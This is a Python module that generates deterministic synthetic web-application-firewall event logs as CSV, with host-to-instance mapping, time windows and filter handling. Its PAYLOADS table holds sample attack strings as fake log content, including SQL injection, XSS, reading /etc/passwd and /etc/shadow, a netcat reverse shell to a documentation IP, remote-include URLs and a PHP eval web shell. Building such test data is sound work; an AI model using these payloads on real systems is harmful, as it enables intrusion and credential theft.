# events.py -- owns the deterministic synthetic WAF events: value pools, the
# host -> WAF instance mapping, the time window of `recent`, and a fast,
# filter-honouring CSV row generator (precomputed row templates, big chunks).
import hashlib
import ipaddress
import random
import zlib

ATTACKS = ("sqli", "xss", "cmdi", "lfi", "rfi", "webshell", "robot", "vuln", "custom_custom",
           "custom_whiteblackip", "custom_geoip", "antitamper", "anticrawler", "leakage",
           "illegal", "antiscan_high_freq_scan", "antiscan_dir_traversal")
ACTIONS = ("block", "log", "pass", "captcha")

# Default protected hosts and the WAF instance that protects each of them.
HOSTS = (
    ("www.example.com", "waf-inst-1"),
    ("shop.example.com", "waf-inst-1"),
    ("api.example.com", "waf-inst-2"),
    ("blog.example.org", "waf-inst-2"),
    ("login.example.net", "waf-inst-3"),
    ("cdn.example.net", "waf-inst-3"),
)
_HOST_INST = dict(HOSTS)


def instance_of(host):
    """WAF instance protecting `host`: the table above, else waf-inst-(crc32(host) % 3 + 1)."""
    inst = _HOST_INST.get(host)
    if inst is None:
        inst = "waf-inst-%d" % (zlib.crc32(host.encode("utf-8", "surrogatepass")) % 3 + 1)
    return inst


def host_id(host):
    return hashlib.md5(("host:" + host).encode("utf-8", "surrogatepass")).hexdigest()


def policy_id(host):
    return hashlib.md5(("policy:" + host).encode("utf-8", "surrogatepass")).hexdigest()


def id_prefix(project_id):
    """Event ids are '<prefix><12 hex digits of the row number>'; the prefix depends on the
    project only, so two exports of one project share ids (as the same events would)."""
    h = hashlib.md5(("events:" + project_id).encode()).hexdigest()
    return "%s-%s-4%s-a%s-" % (h[0:8], h[8:12], h[12:15], h[15:18])


DAY_MS = 86400 * 1000
_SPAN_DAYS = {"3days": 3, "1week": 7, "1month": 30}


def window(recent, submit_ms):
    """[start, start+span) in ms for the `recent` value, relative to submit time."""
    midnight = submit_ms - submit_ms % DAY_MS
    if recent == "today":
        return midnight, submit_ms - midnight + 1
    if recent == "yesterday":
        return midnight - DAY_MS, DAY_MS
    days = _SPAN_DAYS[recent]
    return submit_ms - days * DAY_MS, days * DAY_MS + 1


def csvq(s):
    """RFC 4180 quoting of one field."""
    if any(c in s for c in ',"\r\n'):
        return '"' + s.replace('"', '""') + '"'
    return s


PAYLOADS = {
    "sqli": ["' OR 1=1 --", "1 UNION SELECT username,password FROM users", "admin'--"],
    "xss": ['<script>alert("xss")</script>', "<img src=x onerror=alert(1)>"],
    "cmdi": ["; cat /etc/passwd", "| nc 203.0.113.9 4444 -e /bin/sh"],
    "lfi": ["../../../../etc/passwd", "..%2f..%2fetc%2fshadow"],
    "rfi": ["http://evil.example/shell.txt?", "ftp://198.51.100.3/x.php"],
    "webshell": ['<?php eval($_POST["c"]); ?>'],
    "robot": ["python-requests/2.31.0", "sqlmap/1.7"],
}
HEADERS = ('{"user-agent":"Mozilla/5.0","accept":"*/*"}', '{"user-agent":"curl/8.5.0"}',
           '{"x-forwarded-for":"203.0.113.9, 10.0.0.1"}')
LOCATIONS = ("params", "url", "cookie", "header", "body", "uri")
PATHS = ("/", "/login", "/api/v1/items", "/search", "/admin/config.php", "/cart/checkout",
         "/static/app.js", "/wp-login.php", "/api/v2/users/42", "/download")
COOKIES = ("", "session=3f2a9c; theme=dark", 'pref="a,b"; sid=77', "lang=en")
BODIES = ("", '{"user":"admin","pass":"x\' or 1=1"}', "a=1&b=2",
          '{"q":"a,b",\n"n":1}', "name=O\"Brien")


def _ip_containing(rng, frag, exclude):
    try:
        ipaddress.IPv4Address(frag)
        return frag if frag not in exclude else None
    except ValueError:
        pass
    for _ in range(200):
        octs = [str(rng.randint(1, 254)) for _ in range(4)]
        k = rng.randint(0, 3)
        cand = ".".join(octs[:k] + [frag])
        if cand.endswith("."):
            cand += str(rng.randint(1, 254))
        while cand.count(".") < 3:
            cand += "." + str(rng.randint(1, 254))
        try:
            ipaddress.IPv4Address(cand)
        except ValueError:
            continue
        if frag in cand and cand not in exclude:
            return cand
    return frag if frag not in exclude else None


class Generator:
    """Rows for one job.  Deterministic in (job_id, project_id, filter, submit_ms, rows)."""

    POOL = 1021

    def __init__(self, job_id, project_id, flt, submit_ms, rows):
        self.cols = list(flt["dump_columns"])
        rng = random.Random("pool:" + job_id)
        g = lambda k: list(dict.fromkeys(flt.get(k) or []))
        excl = lambda k: set(flt.get(k) or [])
        sip, url = flt.get("sip"), flt.get("url")

        self.start, self.span = window(flt["recent"], submit_ms)

        attacks = [a for a in (g("attacks") or ATTACKS) if a not in excl("nattacks")]
        actions = [a for a in (g("actions") or ACTIONS) if a not in excl("nactions")]
        hosts = g("hosts") or [h for h, _ in HOSTS]
        if flt.get("instances"):
            insts = set(flt["instances"])
            hosts = [h for h in hosts if instance_of(h) in insts]
        nrules = excl("nrules")
        rules = [r for r in g("rules") if r not in nrules] if flt.get("rules") else None
        nsips = excl("nsips")
        if flt.get("sips"):
            sips = [s for s in g("sips") if s not in nsips and (sip is None or sip in s)]
        else:
            sips = None
        nurls = excl("nurls")
        if flt.get("urls"):
            urls = [u for u in g("urls") if u not in nurls and (url is None or url in u)]
        else:
            urls = None

        self.ids = None
        nids = excl("nids")
        if flt.get("ids"):
            self.ids = [csvq(i) for i in g("ids") if i not in nids]
            rows = min(rows, len(self.ids))
        self.prefix = id_prefix(project_id)
        self.skip = set()
        if nids and self.ids is None:
            for i in nids:
                if i.startswith(self.prefix) and len(i) == len(self.prefix) + 12:
                    try:
                        self.skip.add(int(i[len(self.prefix):], 16))
                    except ValueError:
                        pass

        self.skip = {n for n in self.skip if n < rows}
        if not attacks or not actions or not hosts or rules == [] or sips == [] or urls == []:
            rows = 0
        self.rows = rows
        self.templates = []
        if rows == 0:
            return
        for _ in range(min(self.POOL, rows)):
            v = {}
            h = rng.choice(hosts)
            v["host"], v["host_id"], v["policyid"] = h, host_id(h), policy_id(h)
            a = v["attack"] = rng.choice(attacks)
            act = v["action"] = rng.choice(actions)
            if rules is not None:
                v["rule"] = rng.choice(rules)
            else:
                while True:
                    r = "%06d" % rng.randint(40000, 199999)
                    if r not in nrules:
                        break
                v["rule"] = r
            if sips is not None:
                v["sip"] = rng.choice(sips)
            elif sip is not None:
                s = _ip_containing(rng, sip, nsips)
                if s is None:
                    self.rows = 0
                    self.templates = []
                    return
                v["sip"] = s
            else:
                while True:
                    s = "%d.%d.%d.%d" % (rng.choice((203, 198, 192, 45, 101)), rng.randint(0, 255),
                                         rng.randint(0, 255), rng.randint(1, 254))
                    if s not in nsips:
                        break
                v["sip"] = s
            if urls is not None:
                u = rng.choice(urls)
            else:
                for _ in range(100):
                    u = rng.choice(PATHS)
                    if rng.random() < 0.5:
                        u += "?id=%d" % rng.randint(1, 9999)
                    if url is not None and url not in u:
                        u = rng.choice((url, u.rstrip("/") + "/" + url, u + url))
                    if u not in nurls:
                        break
                else:
                    self.rows = 0
                    self.templates = []
                    return
            v["url"] = u
            v["payload"] = rng.choice(PAYLOADS.get(a, ["rule %s matched" % v["rule"]]))
            v["payload_location"] = rng.choice(LOCATIONS)
            method = rng.choice(("GET", "GET", "POST", "PUT"))
            v["request_line"] = "%s %s" % (method, u)
            v["status"] = str(418 if act == "block" else rng.choice((200, 200, 302, 404, 500)))
            v["region"] = "cn-north-4"
            v["process_time"] = str(rng.randint(0, 50))
            v["response_time"] = str(rng.randint(1, 3000))
            v["response_size"] = str(rng.randint(0, 200000))
            v["cookie"] = rng.choice(COOKIES)
            v["request_body"] = rng.choice(BODIES) if method != "GET" else ""
            # the other column names the cloud accepts (filters.KNOWN_COLUMNS)
            v["headers"] = rng.choice(HEADERS)
            v["response_body"] = rng.choice(("", "<html>blocked</html>", '{"ok":false}'))
            v["policy_id"] = v["policyid"]
            v["body"] = v["request_body"]
            v["enterprise_project_id"] = "0"
            v["enterprise_project_name"] = "default"
            parts = []
            for c in self.cols:
                if c == "id":
                    parts.append("%s")
                elif c == "time":
                    parts.append("%d")
                else:
                    parts.append(csvq(v[c]).replace("%", "%%"))
            self.templates.append(",".join(parts) + "\n")
        args = []
        for c in self.cols:
            if c == "id":
                args.append("IDQ[n]" if self.ids is not None else "IDF % n")
            elif c == "time":
                args.append("S0 + n * SP // R")
        self._code = compile("[T[n %% P] %% (%s) for n in NS]" % "".join(a + "," for a in args),
                             "<rows>", "eval")

    def count(self):
        """Number of rows actually produced."""
        return self.rows - len(self.skip) if self.rows else 0

    def header(self):
        return ",".join(self.cols) + "\n"

    def max_row_len(self):
        return max((len(t) for t in self.templates), default=0) + 64

    def chunks(self, lo, hi, chunk_rows=8000):
        """Yield str chunks holding rows [lo, hi)."""
        env = {"T": self.templates, "P": len(self.templates), "IDQ": self.ids,
               "IDF": self.prefix + "%012x", "S0": self.start, "SP": self.span,
               "R": max(self.rows, 1)}
        for a in range(lo, hi, chunk_rows):
            b = min(hi, a + chunk_rows)
            ns = range(a, b)
            if self.skip:
                ns = [n for n in ns if n not in self.skip]
            env["NS"] = ns
            yield "".join(eval(self._code, env))
